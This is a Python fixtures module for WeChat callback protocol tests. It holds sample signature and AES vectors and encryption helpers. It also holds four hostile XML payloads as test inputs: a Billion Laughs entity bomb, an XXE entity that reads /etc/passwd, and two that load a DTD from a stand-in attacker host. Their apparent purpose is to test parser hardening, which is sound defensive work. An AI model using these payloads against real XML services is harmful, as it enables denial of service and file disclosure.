"""Shared vectors and builders for the WeChat callback protocol tests."""

from __future__ import annotations

import base64

from cryptography.hazmat.primitives.ciphers import Cipher, algorithms, modes

from wechat_callbacks.signature import msg_signature, plain_signature

# Tencent's WXBizMsgCrypt Sample.py vector (see /work/shared/WECHAT.md).
SAMPLE_TOKEN = "spamtest"
SAMPLE_AES_KEY = "abcdefghijklmnopqrstuvwxyz0123456789ABCDEFG"
SAMPLE_APPID = "wx2c2769f8efd9abc2"
SAMPLE_TIMESTAMP = "1409735669"
SAMPLE_NONCE = "1320562132"
SAMPLE_MSG_SIGNATURE = "5d197aaffba7e9b25a30732f161a50dee96bd5fa"
SAMPLE_ENCRYPT = (
    "hyzAe4OzmOMbd6TvGdIOO6uBmdJoD0Fk53REIHvxYtJlE2B655HuD0m8KUePWB3+LrPXo87wzQ1QLvbeUgmBM4x6F8PGHQHFVAFm"
    "OD2LdJF9FrXpbUAh0B5GIItb52sn896wVsMSHGuPE328HnRGBcrS7C41IzDWyWNlZkyyXwon8T332jisa+h6tEDYsVticbSnyU8d"
    "KOIbgU6ux5VTjg3yt+WGzjlpKn6NPhRjpA912xMezR4kw6KWwMrCVKSVCZciVGCgavjIQ6X8tCOp3yZbGpy0VxpAe+77TszTfRd5"
    "RJSVO/HTnifJpXgCSUdUue1v6h0EIBYYI1BD1DlD+C0CR8e6OewpusjZ4uBl9FyJvnhvQl+q5rv1ixrcpCumEPo5MJSgM9ehVsNP"
    "fUM669WuMyVWQLCzpu9GhglF2PE="
)

TOKEN = "suishoupai-token"
APPID = "wx1234567890abcdef"
OTHER_APPID = "wxfedcba0987654321"
AES_KEY = "H33wFVmg0tS+aSEKrRdamspwKI2nB4WcQQMeHNgIlTo"
OLD_AES_KEY = "4smXYQ0TLwIZOBlEQSYVcWipWPo04bItIrl7rJm2qM4"
NOW = 1_714_036_504
NONCE = "1514711492"

OPENID = "oUser0000000000000000000001"
TEXT_XML = (
    "<xml><ToUserName><![CDATA[gh_account]]></ToUserName>"
    f"<FromUserName><![CDATA[{OPENID}]]></FromUserName>"
    f"<CreateTime>{NOW}</CreateTime><MsgType><![CDATA[text]]></MsgType>"
    "<Content><![CDATA[路灯坏了]]></Content><MsgId>23456789012345678901</MsgId></xml>"
)


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE xml [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<xml><MsgType>text</MsgType><Content>&lol9;</Content></xml>"""

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE xml [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<xml><MsgType>text</MsgType><Content>&xxe;</Content></xml>"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE xml [<!ENTITY % remote SYSTEM "http://attacker.invalid/evil.dtd"> %remote;]>
<xml><MsgType>text</MsgType></xml>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE xml SYSTEM "http://attacker.invalid/evil.dtd">
<xml><MsgType>text</MsgType></xml>"""


def raw_encrypt(encoding_aes_key: str, padded_plaintext: bytes) -> str:
    """AES-CBC over bytes the caller already padded (or deliberately mis-padded)."""
    key = base64.b64decode(encoding_aes_key + "=")
    encryptor = Cipher(algorithms.AES(key), modes.CBC(key[:16])).encryptor()
    return base64.b64encode(encryptor.update(padded_plaintext) + encryptor.finalize()).decode()


def raw_decrypt(encoding_aes_key: str, encrypt_b64: str) -> bytes:
    key = base64.b64decode(encoding_aes_key + "=")
    decryptor = Cipher(algorithms.AES(key), modes.CBC(key[:16])).decryptor()
    return decryptor.update(base64.b64decode(encrypt_b64)) + decryptor.finalize()


def plain_query(token: str = TOKEN, timestamp: str = str(NOW), nonce: str = NONCE) -> dict[str, str]:
    return {
        "signature": plain_signature(token, timestamp, nonce),
        "timestamp": timestamp,
        "nonce": nonce,
        "openid": OPENID,
    }


def aes_query(
    encrypt: str, token: str = TOKEN, timestamp: str = str(NOW), nonce: str = NONCE
) -> dict[str, str]:
    return {
        **plain_query(token, timestamp, nonce),
        "encrypt_type": "aes",
        "msg_signature": msg_signature(token, timestamp, nonce, encrypt),
    }


def safe_body(encrypt: str, to_user: str = "gh_account") -> bytes:
    return (
        f"<xml><ToUserName><![CDATA[{to_user}]]></ToUserName><Encrypt><![CDATA[{encrypt}]]></Encrypt></xml>"
    ).encode()
